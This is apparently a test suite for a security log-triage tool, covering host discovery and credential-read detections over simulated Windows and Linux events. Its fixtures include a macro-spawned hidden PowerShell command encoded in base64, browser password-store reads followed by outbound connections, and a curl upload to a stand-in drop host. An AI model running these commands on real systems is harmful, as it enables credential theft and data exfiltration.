/** What processes do on hosts: what is asked, read and sent, and who may. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { fillSql } from "../src/engine/sql.ts";
import type { ReportDocument } from "../src/report/model.ts";
import type { OpenTriage } from "../src/triage/triage.ts";
import { temporaryFolder, write } from "./support/files.ts";
import { content, open, triageDocument } from "./support/triage.ts";

const folder = temporaryFolder();
const base = Date.parse("2026-05-17T10:00:00Z");
const at = (seconds: number) => new Date(base + seconds * 1000).toISOString();

/** A process that begins, as Sysmon logs it. */
const began = (
  host: string,
  seconds: number,
  image: string,
  command: string,
  parent: string,
  line = parent,
  user = "CORP\\ann",
) =>
  JSON.stringify({
    EventID: 1,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Hostname: host,
    TimeCreated: at(seconds),
    User: user,
    Image: image,
    ProcessId: String(1000 + seconds),
    CommandLine: command,
    ParentImage: parent,
    ParentCommandLine: line,
  });
const cmd = "C:\\Windows\\System32\\cmd.exe";
const sys = (name: string) => `C:\\Windows\\System32\\${name}.exe`;
const base64 = (text: string) => Buffer.from(text, "utf16le").toString("base64");

/** Triage of lines that are all of one file; findings by `host indicator`. */
async function found(name: string, lines: readonly string[]): Promise<ReportDocument> {
  return triageDocument([write(folder, name, [...lines])]);
}
const one = (document: ReportDocument, indicator: string, host: string) =>
  document.findings.find((finding) => finding.indicator === indicator && finding.entity === `host:${host}`);
const actionOf = (document: ReportDocument, host: string) =>
  document.entities.find(({ id }) => id === `host:${host}`)?.action;

describe("the catalogues", () => {
  let run: OpenTriage;
  // One process for each example of a command or a place, numbered by its line.
  const hosts = content().hosts;
  const samples = [
    ...hosts.discovery.flatMap(({ id, examples, counterexamples }) => [
      ...examples.map((text) => ({ id, text, fits: true, of: "asked" })),
      ...counterexamples.map((text) => ({ id, text, fits: false, of: "asked" })),
    ]),
    ...hosts.locations.flatMap(({ id, examples, counterexamples }) => [
      ...examples.map((text) => ({ id, text, fits: true, of: "located" })),
      ...counterexamples.map((text) => ({ id, text, fits: false, of: "located" })),
    ]),
    ...hosts.uploads.flatMap(({ id, examples, counterexamples }) => [
      ...examples.map((text) => ({ id, text, fits: true, of: "uploads" })),
      ...counterexamples.map((text) => ({ id, text, fits: false, of: "uploads" })),
    ]),
  ];
  const numbered = { asked: hosts.discovery, located: hosts.locations, uploads: hosts.uploads } as const;
  let rows: Map<number, Record<string, number[]>>;
  beforeAll(async () => {
    const lines = samples.map(({ text }, index) => began("h", index, cmd, `cmd.exe /c ${text}`, cmd));
    run = await open([write(folder, "samples.json", lines)]);
    const sql = "SELECT event_id % 1099511627776 AS line, asked, located, uploads FROM {host_acts}";
    rows = new Map(
      (await run.engine.rows(fillSql(sql, run.parts ?? {}))).map((row) => [Number(row.line), row as never]),
    );
  });
  afterAll(() => run.close());

  test.each(samples.map((sample, index) => ({ ...sample, line: index + 1 })))(
    "$of $id: $text ($fits)",
    ({ id, of, fits, line }) => {
      const ids = (rows.get(line)?.[of] ?? []).map(
        (n) => numbered[of as keyof typeof numbered][Number(n) - 1]?.id,
      );
      if (fits) expect(ids).toContain(id);
      else expect(ids).not.toContain(id);
    },
  );

  test("ids are unique, and each word is one that a folded command can hold", () => {
    const ids = Object.values(numbered).flatMap((list) => list.map(({ id }) => id));
    expect(ids.length).toBe(new Set(ids).size);
    for (const { words } of [...hosts.discovery, ...hosts.locations])
      for (const word of words.flat()) expect(word).not.toMatch(/[,;|&(){}<>]|\.exe |\/\/| {2}/);
  });
});

describe("questions about a host", () => {
  const wordParent = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
  let document: ReportDocument;
  beforeAll(async () => {
    document = await found("questions.json", [
      // Two steps below a document, by a script in base64.
      began("macro", 0, cmd, "cmd /c start /b powershell -w hidden", wordParent),
      began(
        "macro",
        1,
        sys("WindowsPowerShell\\v1.0\\powershell"),
        `powershell -w hidden -EncodedCommand ${base64("systeminfo; Get-TimeZone; netsh winhttp show proxy")}`,
        cmd,
        "cmd /c start /b powershell -w hidden",
      ),
      // An agent by name alone.
      ...["systeminfo", "wmic product get name", "ipconfig /all", "tzutil /g"].map((command, n) =>
        began(
          "copycat",
          n * 10,
          cmd,
          `cmd /c ${command}`,
          "C:\\Users\\ann\\AppData\\Local\\Temp\\CcmExec.exe",
        ),
      ),
      // The agent itself, through a shell and by a script of that.
      began("managed", 0, cmd, "cmd /c inventory.cmd", "C:\\Windows\\CCM\\CcmExec.exe", "ccmexec"),
      ...[
        "systeminfo",
        "wmic product get name",
        "ipconfig /all",
        "tzutil /g",
        "netsh winhttp show proxy",
      ].map((command, n) =>
        began("managed", n + 1, sys("cmd"), command, cmd, "cmd /c inventory.cmd", "NT AUTHORITY\\SYSTEM"),
      ),
      // A person who looks for a fault: three things, none of them odd.
      ...["systeminfo", "ipconfig /all", "whoami"].map((command, n) =>
        began("support", n * 100, cmd, `cmd /c ${command}`, "C:\\Windows\\explorer.exe"),
      ),
      // The same, but one more every six hours: no set within minutes.
      ...[
        "systeminfo",
        "ipconfig /all",
        "tzutil /g",
        "wmic product get name",
        "netsh winhttp show proxy",
      ].map((command, n) => began("slow", n * 21_600, cmd, `cmd /c ${command}`, "C:\\Windows\\explorer.exe")),
      // Accounts and names alone are no client configuration.
      ...["whoami /all", "net user", "net localgroup administrators", "hostname"].map((command, n) =>
        began("accounts", n, cmd, `cmd /c ${command}`, wordParent),
      ),
    ]);
  }, 120_000);

  test("are seen through base64, with the document behind them", () => {
    const finding = one(document, "host.config-discovery", "macro");
    expect(finding?.sentence).toMatch(/ann asked about 3 things .*winword\.exe.*systeminfo/);
    expect(finding?.confidence).toBe("high");
    expect(actionOf(document, "macro")).toBe("escalate");
  });
  test("excuse an agent by path and name, not by name alone", () => {
    expect(one(document, "host.config-discovery", "copycat")?.sentence).toMatch(/temp\/ccmexec\.exe/);
    expect(one(document, "host.config-discovery", "managed")).toBeUndefined();
  });
  test.each(["support", "slow", "accounts"])("are none where it is %s", (host) =>
    expect(one(document, "host.config-discovery", host)).toBeUndefined(),
  );
});

describe("what is read and what leaves", () => {
  const login = "C:\\Users\\ann\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data";
  const read = (host: string, seconds: number, program: string, file: string) =>
    JSON.stringify({
      EventID: 4663,
      Channel: "Security",
      Hostname: host,
      TimeCreated: at(seconds),
      SubjectUserName: "ann",
      ObjectType: "File",
      ObjectName: file,
      ProcessName: program,
      ProcessId: "0x898",
    });
  const reached = (host: string, seconds: number, program: string, address: string) =>
    JSON.stringify({
      EventID: 3,
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Hostname: host,
      TimeCreated: at(seconds),
      User: "CORP\\ann",
      Image: program,
      ProcessId: "2200",
      Protocol: "tcp",
      SourceIp: "10.0.0.7",
      SourcePort: "50661",
      DestinationIp: address,
      DestinationPort: "443",
    });
  const temp = "C:\\Users\\ann\\AppData\\Local\\Temp\\upd.exe";
  let document: ReportDocument;
  beforeAll(async () => {
    document = await found("left.json", [
      read("inside", 0, temp, login),
      reached("inside", 60, temp, "10.0.0.9"),
      read("before", 100, temp, login),
      reached("before", 60, temp, "203.0.113.9"),
      read("other", 0, temp, login),
      reached("other", 60, "C:\\Users\\ann\\Downloads\\game.exe", "203.0.113.9"),
      read("steam", 0, temp, login),
      reached("steam", 60, temp, "203.0.113.9"),
      read("owner", 0, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", login),
      reached("owner", 60, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "203.0.113.9"),
      read("named", 0, "D:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", login),
    ]);
  }, 120_000);

  test("left where the process that read reaches an address outside afterwards", () => {
    expect(one(document, "data.unauthorised-access", "steam")?.sentence).toMatch(
      /203\.0\.113\.9, bytes not logged/,
    );
    expect(document.decision).toMatchObject({ action: "escalate", priority: "now" });
    expect(document.decision.sentence).toMatch(/1 case in which something left or got in/);
  });
  test.each(["inside", "before", "other"])("did not leave where it is %s", (host) => {
    expect(one(document, "data.unauthorised-access", host)).toBeUndefined();
    expect(actionOf(document, host)).toBe("watch");
  });
  test("is the owner's own where it is installed, and nowhere else", () => {
    expect(one(document, "host.profile-access", "owner")).toBeUndefined();
    expect(one(document, "host.profile-access", "named")).toBeDefined();
  });

  test("is judged by bytes where they are logged, against what was usual", async () => {
    const sent = (host: string, seconds: number, bytes: number) =>
      JSON.stringify({
        "@timestamp": at(seconds),
        event: { module: "endpoint", action: "disconnect_received" },
        data_stream: { dataset: "endpoint.events.network" },
        host: { name: host },
        user: { name: "ann" },
        source: { ip: "10.0.0.7", bytes },
        destination: { ip: "203.0.113.9", bytes: 900 },
        network: { transport: "tcp" },
        process: { executable: "/opt/app/agent", pid: 9 },
      });
    const opened = (host: string) =>
      JSON.stringify({
        "@timestamp": at(100),
        event: { module: "endpoint", action: "open" },
        data_stream: { dataset: "endpoint.events.file" },
        host: { name: host },
        user: { name: "ann" },
        file: { path: "/home/ann/.mozilla/firefox/a.default/logins.json" },
        process: { executable: "/usr/bin/cat", pid: 7 },
      });
    const bytes = await found("bytes.json", [
      opened("new"),
      sent("new", 200, 90_000),
      sent("usual", 10, 80_000),
      opened("usual"),
      sent("usual", 200, 90_000),
      opened("little"),
      sent("little", 200, 4000),
    ]);
    expect(one(bytes, "data.unauthorised-access", "new")?.sentence).toMatch(
      /sent 90000 bytes to 203\.0\.113\.9/,
    );
    for (const host of ["usual", "little"])
      expect(one(bytes, "data.unauthorised-access", host)).toBeUndefined();
  }, 60_000);

  test("is read from the audit log of Linux and from osquery", async () => {
    const audit = [
      'type=SYSCALL msg=audit(1779012303.250:459): arch=c000003e syscall=257 success=yes exit=3 ppid=2100 pid=8 auid=1000 uid=1000 comm="upd" exe="/tmp/upd" key="browser"',
      'type=CWD msg=audit(1779012303.250:459): cwd="/home/ann"',
      'type=PATH msg=audit(1779012303.250:459): item=0 name="/home/ann/.mozilla/firefox/p/logins.json" nametype=NORMAL',
    ];
    const query = ["uname -a", "dpkg -l", "cat /etc/resolv.conf", "timedatectl"].map((cmdline, n) =>
      JSON.stringify({
        name: "pack_ir_process_events",
        hostIdentifier: "lx2",
        unixTime: 1779012303 + n,
        columns: { path: "/usr/bin/bash", cmdline: `bash -c '${cmdline}'`, pid: "2200", username: "ann" },
        action: "added",
      }),
    );
    const document = await triageDocument([
      write(folder, "audit.log", audit),
      write(folder, "osquery.json", query),
    ]);
    expect(
      document.findings
        .filter(({ indicator }) => indicator === "host.profile-access")
        .map(({ sentence }) => sentence),
    ).toEqual([expect.stringMatching(/\/tmp\/upd read the configuration of Mozilla Firefox/)]);
    expect(one(document, "host.config-discovery", "lx2")?.sentence).toMatch(/ann asked about 4 things/);
  }, 60_000);
});

describe("who is behind a command", () => {
  /** Audit lines of a program that began; no parent's path is logged there, only its number. */
  const ran = (host: string, seconds: number, number: number, parent: number, words: readonly string[]) => {
    const stamp = `msg=audit(${(base / 1000 + seconds).toFixed(3)}:${number}):`;
    const exe = words[0]?.startsWith("/") ? words[0] : `/usr/bin/${words[0]}`;
    return [
      `node=${host} type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=${parent} pid=${number} auid=1000 uid=1000 tty=(none) comm="x" exe="${exe}" key="exec"`,
      `node=${host} type=EXECVE ${stamp} argc=${words.length} ${words.map((word, n) => `a${n}="${word}"`).join(" ")}`,
    ];
  };
  let document: ReportDocument;
  beforeAll(async () => {
    document = await triageDocument([
      write(folder, "audit.log", [
        // A script in the memory file system, whose children name their parent by number alone.
        ...ran("scripted", 0, 10, 1, ["bash", "/dev/shm/r.sh"]),
        ...["lscpu", "timedatectl", "snap list"].flatMap((line, n) =>
          ran("scripted", 1 + n, 11 + n, 10, line.split(" ")),
        ),
        // The same by a script that is installed: three things are no set where nothing odd is behind them.
        ...ran("installed", 0, 20, 1, ["bash", "/usr/local/sbin/check"]),
        ...["lscpu", "timedatectl", "snap list"].flatMap((line, n) =>
          ran("installed", 1 + n, 21 + n, 20, line.split(" ")),
        ),
        // Two things asked and sent by one parent, of which nothing else is known; and by two.
        ...["uname -a", "dpkg -l", "curl -T /tmp/o https://drop.example/"].flatMap((line, n) =>
          ran("sends", 1 + n, 31 + n, 30, line.split(" ")),
        ),
        ...["uname -a", "dpkg -l", "curl -T /tmp/o https://drop.example/"].flatMap((line, n) =>
          ran("apart", 1 + n, 41 + n, 50 + n, line.split(" ")),
        ),
      ]),
    ]);
  }, 120_000);

  test("a parent is found by its number, and a shell stands for its script", () => {
    expect(one(document, "host.config-discovery", "scripted")?.sentence).toContain("/dev/shm/r.sh");
    expect(one(document, "host.config-discovery", "installed")).toBeUndefined();
  });

  test("what one process asks and sends belongs together", () => {
    expect(actionOf(document, "sends")).toBe("escalate");
    expect(one(document, "data.unauthorised-access", "apart")).toBeUndefined();
  });

  test("one user who asks many hosts, and one who asks two", async () => {
    const asked = await found(
      "remote.json",
      [...Array(6).keys()]
        .map((n) => began("buyer", n, sys("wbem\\WMIC"), `wmic /node:ws${n} qfe get hotfixid`, cmd))
        .concat(
          [...Array(2).keys()].map((n) =>
            began("admin", n, sys("wbem\\WMIC"), `wmic /node:ws${n} qfe get hotfixid`, cmd),
          ),
        ),
    );
    expect(one(asked, "host.config-discovery", "buyer")?.sentence).toContain("6 other hosts");
    expect(one(asked, "host.config-discovery", "admin")).toBeUndefined();
  });
});
